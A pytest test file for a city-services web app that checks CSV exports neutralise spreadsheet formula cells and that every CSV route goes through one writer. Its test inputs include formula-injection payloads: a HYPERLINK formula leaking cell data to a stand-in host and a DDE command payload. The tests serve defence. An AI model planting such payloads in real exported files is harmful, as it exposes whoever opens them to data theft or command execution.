"""CSV downloads: formula cells neutralised, numbers kept, and no CSV route around the writer."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smartcity.core.csvfile import CSVResponse, safe_cell, write_csv
from tests.support.routes import api_routes

SRC = Path(__file__).resolve().parents[2] / "src" / "smartcity"
WRITER = SRC / "core" / "csvfile.py"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_cells_become_text(cell: str) -> None:
    (_header, row) = _read(write_csv(["name", "pm25"], [{"name": cell, "pm25": 17.5}]))
    assert row == ["'" + cell, "17.5"]


def test_numbers_stay_numbers_negative_ones_too() -> None:
    text = write_csv(["a", "b", "c", "d"], [(-12, -3.5, "-40", "-0.25")])
    assert _read(text)[1] == ["-12", "-3.5", "-40", "-0.25"]


@given(st.text(max_size=30))
def test_no_cell_reads_back_as_a_formula(value: str) -> None:
    (_header, row) = _read(write_csv(["v"], [[value]]))
    (cell,) = row if row else [""]
    if value.startswith(TRIGGERS) and not _is_number(value):
        assert cell == "'" + value
    else:
        assert cell == value


def _is_number(value: str) -> bool:
    body = value[1:] if value.startswith("-") else value
    whole, _dot, fraction = body.partition(".")
    return (
        whole.isascii()
        and whole.isdigit()
        and (not _dot or (fraction.isascii() and fraction.isdigit()))
    )


@given(st.integers(min_value=-(10**12), max_value=10**12))
def test_integers_are_written_as_they_are(value: int) -> None:
    assert safe_cell(value) == value
    assert _read(write_csv(["n"], [[value]]))[1] == [str(value)]


def _writes_csv_outside_the_writer(path: Path) -> list[str]:
    """Calls that build CSV text or a CSV response by hand (csv.writer, media_type=…csv…)."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"{path.name}:{node.lineno} csv.{node.attr}")
        if isinstance(node, ast.Call):
            for keyword in node.keywords:
                text = ast.dump(keyword.value)
                if keyword.arg == "media_type" and "csv" in text:
                    found.append(f"{path.name}:{node.lineno} media_type")
                if keyword.arg == "responses" and "text/csv" in text:
                    found.append(f"{path.name}:{node.lineno} responses")
    return found


def test_only_the_core_writer_writes_csv() -> None:
    offenders = [
        hit
        for path in sorted(SRC.rglob("*.py"))
        if path != WRITER
        for hit in _writes_csv_outside_the_writer(path)
    ]
    assert not offenders, f"CSV written around smartcity.core.csvfile: {offenders}"


def test_every_csv_route_answers_through_the_writer(app: Any) -> None:
    csv_routes = {path for path, route in api_routes(app) if route.response_class is CSVResponse}
    named_csv = {path for path, _route in api_routes(app) if path.endswith(".csv")}
    assert named_csv <= csv_routes, (
        f"CSV routes with another response class: {named_csv - csv_routes}"
    )
    assert {
        "/api/v1/airquality/last-all-airbox.csv",
        "/api/v1/livinglab/open-data/pilots.csv",
        "/api/v1/payments/payouts/{batch_id}/instructions",
        "/staff/payments/reconciliation.csv",
    } <= csv_routes
